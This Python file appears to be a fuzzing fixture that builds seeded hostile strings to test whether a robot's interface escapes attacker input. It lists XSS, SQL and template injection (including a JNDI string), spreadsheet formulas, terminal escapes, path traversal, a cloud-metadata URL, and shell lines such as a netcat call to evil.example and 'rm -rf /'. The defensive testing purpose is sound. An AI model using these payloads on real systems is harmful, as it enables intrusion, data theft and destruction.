"""2,000 hostile texts, always the same for a seed: what a robot's attacker could put into any field to reach a person.

Each kind is a way in that some other product had: markup, script, SQL, templates, formulas, terminals, direction marks,
look-alike line ends, half characters, sizes. MARK stands in every one, so that each is found again where it is shown.
"""

import random

MARK = "wachhundprobe"
KINDS: dict[str, tuple[str, ...]] = {
    "markup": (
        "<b id={m}>x</b>",
        "<img src=x id={m} onerror=alert('{m}')>",
        "</td></tr></table><h1 id={m}>",
        "<!--{m}",
        "]]>{m}<![CDATA[",
        "</title><base href=//evil.example/{m}>",
        "</textarea><form action=//evil.example/{m}><input name={m}>",
        "<svg/onload=alert('{m}')>",
        "<iframe srcdoc='<script>alert({m})</script>'>",
        "&lt;b id={m}&gt;&#60;i&#62;",
        "<link rel=stylesheet href=//evil.example/{m}>",
        "<meta http-equiv=refresh content='0;url=//evil.example/{m}'>",
    ),
    "script": (
        "<script>window.{m}=1;alert('{m}')</script>",
        "</script><script>document.title='{m}'</script>",
        "javascript:alert('{m}')",
        "'-alert('{m}')-'",
        '"><script src=//evil.example/{m}.js></script>',
        "' onmouseover='alert(`{m}`)' x='",
        "\" autofocus onfocus=alert('{m}') x=\"",
        "data:text/html,<script>alert('{m}')</script>",
        "<details open ontoggle=alert('{m}')>",
    ),
    "sql": (
        "'; DROP TABLE robots; -- {m}",
        '" OR 1=1 -- {m}',
        "%' UNION SELECT secret FROM people -- {m}",
        "{m}\\' OR '1'='1",
        "_%{m}%_",
    ),
    "template": (
        "{{{{7*7}}}}{m}",
        "{{% for x in ().__class__.__mro__ %}}{m}",
        "${{7*7}}{m}",
        "#{{7*7}}{m}",
        "<%= 7*7 %>{m}",
        "%s%n%x{m}",
        "{{0.__class__}}{m}",
        "${{jndi:ldap://evil.example/{m}}}",
    ),
    "formula": (
        '=HYPERLINK("http://evil.example/{m}")',
        "+1+cmd|'/c calc'!{m}",
        "-2+3+{m}",
        "@SUM(1+1)*{m}",
        "\t=1+{m}",
        "\r=1+{m}",
    ),
    "terminal": (
        "\x1b]0;{m}\x07",
        "\x1b[2J\x1b[31m{m}",
        "\x1b]8;;http://evil.example\x1b\\{m}",
        "\x9b31m{m}",
        "{m}\x08\x08\x08ok",
        "\x1bP{m}\x1b\\",
    ),
    "direction": ("\u202egpj.{m}", "\u2066\u2067{m}\u2069", "{m}\u200f\u200e", "\u061c{m}", "{m}\u202aexe.\u202c"),
    "lines": (
        "{m}\nERROR forged line",
        "{m}\r\nSet-Cookie: a=b",
        "{m}\u2028forged",
        "{m}\u2029forged",
        "{m}\x85forged",
        "{m}\x0b\x0cforged",
        "event: change\ndata: {{}}\n\n{m}",
    ),
    "unicode": (
        "\u0430dmin-{m}",
        "{m}" + "\u0301" * 60,
        "\ufeff{m}\u200b\u200d",
        "{m}\ufffe\uffff",
        "\U000e0041\U000e0042{m}",
        "\ufdfd{m}\ud7a3",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467{m}",
        "{m}\ue000",
    ),
    "control": tuple(f"{{m}}{chr(code)}x" for code in (*range(1, 32), 127, *range(128, 160))),
    "paths": (
        "../../../../etc/passwd#{m}",
        "file:///etc/{m}",
        "//evil.example/{m}",
        "http://169.254.169.254/{m}",
        "C:\\{m}\\..\\x",
        "{m}/../..//",
        "?q={m}&next=//evil.example#x",
        "%2e%2e%2f{m}%00",
        "{m};.js",
    ),
    "shell": (
        "$(touch /tmp/{m})",
        "`id`{m}",
        "; rm -rf / #{m}",
        "| nc evil.example 1 {m}",
        "--{m}=x",
        "-{m}",
        "'\"{m}\\",
    ),
    # An observation's text has 4 KiB at most: what is longer never gets in.
    "huge": ("{m}" + "A" * 3_900, "<b>" * 1_200 + "{m}", "{m}" + "\u202e" * 1_200, "{m} " * 280),
}


def texts(seed: int, count: int = 2_000) -> list[str]:
    """`count` payloads: each of the list at least once, then drawn pairs of them."""
    drawn = random.Random(seed)
    patterns = [pattern for kind in KINDS.values() for pattern in kind]
    small = [pattern for name, kind in KINDS.items() if name != "huge" for pattern in kind]
    made = [pattern.format(m=MARK) for pattern in patterns]
    while len(made) < count:
        first, second = drawn.sample(small, 2)
        cut = drawn.randrange(len(first.format(m=MARK)) + 1)
        whole = first.format(m=MARK)
        made.append(drawn.choice((whole + second.format(m=MARK), whole[:cut] + second.format(m=MARK) + whole[cut:])))
    return made[:count]
